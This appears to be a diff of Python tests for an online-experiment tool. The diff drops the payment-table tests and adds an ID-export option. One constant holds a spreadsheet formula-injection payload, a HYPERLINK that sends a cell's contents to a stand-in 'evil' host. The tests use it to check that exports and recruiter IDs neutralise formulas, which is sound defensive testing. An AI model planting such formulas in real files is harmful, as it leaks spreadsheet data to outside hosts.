@@ -9,7 +9,7 @@ import json
 import re
 import uuid
 from contextlib import closing
-from dataclasses import fields, replace
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 from unittest.mock import Mock
@@ -24,14 +24,14 @@ from contstim.cli import main
 from contstim.errors import InputError, ValidationError
 from contstim.evaluation import audit as audits
 from contstim.evaluation.importers import read_choices
-from contstim.experiment.collected import Collected, participant_hash, read_collected, recruiter_ids
+from contstim.experiment.collected import participant_hash, read_collected, recruiter_ids
 from contstim.experiment.exporting import check_psychds, write_psychds
 from contstim.experiment.importing import import_logs
 from contstim.experiment.messages import RefusedError, make_bundle, materials_digest
 from contstim.experiment.schema import open_data, writing
 from contstim.experiment.store import Store
 from contstim.experiment.study import Study, read_study
-from contstim.experiment.upkeep import Bonus, pay_table, release_sessions, replacement_table
+from contstim.experiment.upkeep import release_sessions, replacement_table
 from contstim.tables import read_table
 
 
@@ -346,8 +346,7 @@ def test_imported_sessions_end_as_the_server_would_have_ended_them(
         for value in line.get("answers", []):
             value["choice"] = 1 if value["trial"] == "n1" else -1
     import_logs(study, [write(tmp_path / "x.jsonl", failed + late + slow + right)])
-    collected = read_collected(study)
-    ends = collected.sessions.set_index("session")["outcome"].to_dict()
+    ends = read_collected(study).sessions.set_index("session")["outcome"].to_dict()
     assert ends == {
         "session-1": "failed_checks",
         "session-2": "time_limit",
@@ -358,8 +357,6 @@ def test_imported_sessions_end_as_the_server_would_have_ended_them(
     assert import_logs(study, [tmp_path / "rest.jsonl"]).added == 6
     ends = read_collected(study).sessions.set_index("session")["outcome"].to_dict()
     assert (ends["session-1"], ends["session-3"]) == ("failed_checks", "complete")
-    pay = pay_table(collected, recruiter_ids(study)).set_index("session")["pay"].to_dict()
-    assert [pay[f"session-{n}"] for n in (1, 2, 3, 4)] == ["review", "review", "review", "yes"]
 
 
 def test_a_file_without_any_log_is_refused_and_nothing_is_made(
@@ -441,52 +438,10 @@ def _empty(tmp_path: Path) -> Path:
     return folder
 
 
-def test_pay(filled: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    collected, ids = read_collected(filled), recruiter_ids(filled)
-    table = pay_table(collected, ids, Bonus(1.5, 0.9))
-    assert table["recruiter_id"].tolist()[:3] == ["GOOD", "POOR", "LEFT"]
-    assert table["pay"].tolist() == ["yes", "yes", "no", "no"]
-    assert table["bonus"].tolist() == [1.5, 0.0, 0.0, 0.0]
-    assert table["reason"][0] == "6 of 6 trials answered; 2 of 2 catch trials right"
-    assert table["reason"][2] == "2 of 6 trials answered, then left"
-    assert "STUDY_ID" in table.columns
-    out = tmp_path / "pay.csv"
-    assert main(["experiment", "pay", str(filled.folder), "--out", str(out)]) == 0
-    assert "yes 2, no 2" in capsys.readouterr().err
-    assert pd.read_csv(out)["recruiter_id"].tolist()[0] == "GOOD"
-    with pytest.raises(InputError, match="amount is 0; give more than 0"):
-        Bonus(0)
-
-
-def test_who_is_to_be_asked_before_pay(study: Study) -> None:
-    sessions = pd.DataFrame(
-        {
-            "participant": list("abcd"),
-            "session": list("abcd"),
-            "outcome": ["failed_checks", "time_limit", "unfinished", "screened_out"],
-            "n_answered": [6, 4, 6, 0],
-            "n_trials": 6,
-            "checks_right": [0, 0, 2, 0],
-            "checks_shown": 2,
-            "catch_right": 0,
-            "catch_shown": 2,
-            "browsers": 1,
-        }
-    )
-    none = dict.fromkeys(field.name for field in fields(Collected))
-    collected = Collected(**{**none, "sessions": sessions})
-    ids = pd.DataFrame({"participant": list("abcd"), "recruiter_id": list("ABCD")})
-    table = pay_table(collected, ids)
-    assert table["pay"].tolist() == [*["review"] * 3, "no"]
-    assert table["reason"][0] == "6 of 6 trials answered, 0 of 2 attention checks right"
-    assert table["reason"][2] == "6 of 6 trials answered, but the page was left before the end"
-    assert table["reason"][3] == "0 of 6 trials answered, screened out by a question"
-
-
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
 
 
-def test_no_cell_of_the_export_or_of_pay_is_computed(study: Study, tmp_path: Path) -> None:
+def test_no_cell_of_the_export_is_a_formula(study: Study, tmp_path: Path) -> None:
     question = '[[questions]]\nname = "free"\nprompt = "Anything?"\nrows = 3\nwhen = "after"\n'
     study = add(study, RECRUITER + question)
     with Store(study) as store:
@@ -494,10 +449,11 @@ def test_no_cell_of_the_export_or_of_pay_is_computed(study: Study, tmp_path: Pat
         token, _, _ = store.open(asked).result()
         detail = json.dumps({"responses": {"free": f"{FORMULA}\0"}, "rt_ms": 5})
         assert store.add_events(token, [event("responses", detail=detail)]).result().acknowledged
-    out, pay = tmp_path / "out", tmp_path / "pay.csv"
-    assert main(["experiment", "export", str(study.folder), "--out", str(out)]) == 0
-    assert main(["experiment", "pay", str(study.folder), "--out", str(pay)]) == 0
-    tables = [*out.rglob("*.csv"), pay]
+    out, ids = tmp_path / "out", tmp_path / "ids.csv"
+    command = ["experiment", "export", str(study.folder), "--out", str(out), "--ids", str(ids)]
+    assert main(command) == 0
+    assert read_table(ids)["recruiter_id"].tolist() == ["GOOD"]
+    tables = [*out.rglob("*.csv"), ids]
     assert any("HYPERLINK" in path.read_text("utf-8") for path in tables)
     for path in tables:
         text = path.read_text("utf-8")
@@ -511,15 +467,11 @@ def test_no_cell_of_the_export_or_of_pay_is_computed(study: Study, tmp_path: Pat
 def test_ids_hold_what_a_recruiter_gives(study: Study) -> None:
     study = add(study, RECRUITER)
     with Store(study) as store:
-        for who in (FORMULA, "{{%PROLIFIC_PID%}}", "a@b.org", "x" * 129):
+        for who in (FORMULA, "{{%PROLIFIC_PID%}}", "a b", "x" * 129):
             with pytest.raises(InputError, match="which no recruiter gives"):
                 store.open(opening(study, who)).result()
         store.open(opening(study, "5f00_-Z")).result()
-    study = edit(study, 'parameters = ["STUDY_ID"]', 'id_signs = "@."')
-    with Store(study) as store:
         store.open(opening(study, "a@b.org")).result()
-    with pytest.raises(InputError, match=r"recruiter.id_signs is 'a b'; give up to 32 signs"):
-        edit(study, 'id_signs = "@."', 'id_signs = "a b"')
 
 
 def test_an_id_in_a_log_that_none_gives_is_left_out_and_noted(study: Study, tmp_path: Path) -> None:
@@ -530,26 +482,6 @@ def test_an_id_in_a_log_that_none_gives_is_left_out_and_noted(study: Study, tmp_
     assert found.added == 6
     assert "is left out, which holds other signs than ids may" in found.notes[0]
     assert recruiter_ids(study)["recruiter_id"].tolist() == [None]
-
-
-def test_an_id_that_came_twice_is_looked_at_before_pay(study: Study, tmp_path: Path) -> None:
-    study = add(study, RECRUITER)
-    with Store(study) as store:
-        play(store, "ONCE")
-        play(store, "TWICE")
-        token, bundle, _ = store.open(opening(study, "SHARED", "request-1")).result()
-        store.open(opening(study, "SHARED", "request-2")).result()
-        store.add_answers(token, answers_to(bundle["trials"])).result()
-        store.finish(token).result()
-    lines = log(study, 4, "session-1")
-    lines[0]["consent"]["recruiter"] = {"participant": "TWICE"}
-    import_logs(study, [write(tmp_path / "x.jsonl", lines)])
-    table = pay_table(read_collected(study), recruiter_ids(study)).sort_values("recruiter_id")
-    assert table["recruiter_id"].tolist() == ["ONCE", "SHARED", "TWICE", "TWICE"]
-    assert table["pay"].tolist() == ["yes", "review", "review", "review"]
-    assert table["reason"].str.partition("; ")[2].tolist() == [
-        "", "the id came from 2 browsers", *["another session gives the same recruiter's id"] * 2,
-    ]  # fmt: skip
 
 
 def test_replacement_frees_the_assignments(
